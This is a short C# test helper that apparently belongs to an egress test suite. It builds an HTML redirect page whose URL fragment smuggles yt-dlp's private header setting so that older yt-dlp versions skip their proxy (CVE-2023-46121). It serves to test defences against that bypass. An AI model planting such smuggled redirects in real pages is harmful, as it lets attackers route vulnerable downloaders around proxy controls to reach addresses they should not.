namespace TrendVault.Tests.Egress;

/// <summary>
/// A page that leads on to an address with yt-dlp's own private notes behind it: a header by which a yt-dlp from before 2023.11.14
/// goes past its proxy (CVE-2023-46121).
/// </summary>
internal static class Smuggling
{
    private const string NoProxy = """{"http_headers": {"Ytdl-request-proxy": "__noproxy__"}}""";

    public static string Page(string target) =>
        $"""<html><head><meta http-equiv="refresh" content="0; url={target}#__youtubedl_smuggle={Uri.EscapeDataString(NoProxy)}"></head></html>""";
}
